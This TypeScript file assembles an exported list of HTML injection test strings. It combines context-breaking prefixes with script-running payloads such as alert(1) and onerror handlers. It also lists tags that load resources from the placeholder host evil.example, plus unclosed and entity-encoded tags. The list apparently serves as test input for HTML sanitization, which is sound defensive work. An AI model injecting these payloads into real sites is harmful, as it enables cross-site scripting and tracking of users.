/** Text that opens an element, or closes the surrounding one. */
const ways = [
  '',
  '">',
  "'>",
  '</td></tr></table>',
  '</title>',
  '</style>',
  '</script>',
  '--><!--',
  ']]>',
  '</textarea>',
];

const running = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
];

const fetching = [
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/1x.png 1x">',
  '<picture><source srcset="https://evil.example/p.png"><img></picture>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=preload as=image href="https://evil.example/x.png">',
  '<video poster="https://evil.example/poster.png"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<iframe src="https://evil.example/"></iframe>',
  '<input type=image src="https://evil.example/i.png">',
  '<body background="https://evil.example/b.png">',
  '<table background="https://evil.example/t.png"><tr><td>x</table>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<script type=module>import "https://evil.example/m.js"</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/b.png)}</style>',
  '<a ping="https://evil.example/ping" href="#">x</a>',
  '<form action="https://evil.example/"><button>x</button></form>',
];

/** Incomplete elements, which would absorb the text after them. */
const unfinished = [
  '<img src=x onerror=alert(1) ',
  '<img src="https://evil.example/?',
  '<a href="javascript:alert(1)',
  '<script>alert(1)',
  '<style>',
  '<textarea>',
  '<plaintext>',
  '<noscript>',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '<',
  '</',
  '&lt',
  '&#60script&#62alert(1)&#60/script&#62',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
];

export const elements: readonly string[] = [
  ...ways.flatMap((way) => running.map((one) => way + one)),
  ...fetching,
  ...unfinished,
];
